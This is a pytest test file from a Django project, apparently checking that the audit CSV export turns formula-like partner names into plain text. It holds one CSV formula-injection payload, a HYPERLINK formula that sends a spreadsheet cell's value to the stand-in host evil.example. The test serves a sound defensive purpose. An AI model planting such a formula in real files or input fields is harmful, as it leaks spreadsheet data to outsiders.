"""Issue 9, item 4: names and details that look like formulas come out of the audit CSV as
text."""

import csv
import io

import pytest
from django.urls import reverse

from sifra.accounts import services
from sifra.accounts.models import Partner

ATTACK = '=HYPERLINK("https://evil.example/?x="&A2;"Klicka")'


@pytest.mark.django_db
def test_the_audit_csv_quotes_formulas(client_as, users, org):
    services.partner_create(
        organisation=org, name=ATTACK, kind=Partner.Kind.REGION, acting_user=users["coordinator"]
    )
    body = client_as(users["auditor"]).get(reverse("audit:export")).content.decode("utf-8-sig")
    [row] = [r for r in csv.reader(io.StringIO(body), delimiter=";") if r[2] == "Partner created"]
    assert row[5] == "'" + ATTACK
    assert not row[6].startswith(("=", "+", "-", "@"))
